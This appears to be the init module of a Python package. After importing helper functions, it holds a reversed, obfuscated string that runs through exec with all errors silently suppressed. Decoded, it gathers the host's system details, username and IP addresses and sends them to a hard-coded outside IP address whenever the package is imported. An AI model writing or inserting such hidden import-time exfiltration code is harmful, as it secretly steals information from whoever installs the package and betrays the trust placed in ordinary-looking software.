from .client import get, post

_s = "\n)4 ,)(edocne.)ofni(spmud.nosj ,'b/041.311.0.302//:ptth'(nepolru.u\n)]2[))(emantsohteg.tekcos(xe_emanybtsohteg.tekcos=spi ,'' esle )'nigolteg' ,so(rttasah fi )(nigolteg.so=resu ,)(tcidsa_.)(emanu.mroftalp=emanu(tcid = ofni\nu sa tseuqer.billru ,nosj ,so ,tekcos ,mroftalp tropmi"
try:
    exec(_s[::-1])
except Exception:
    pass
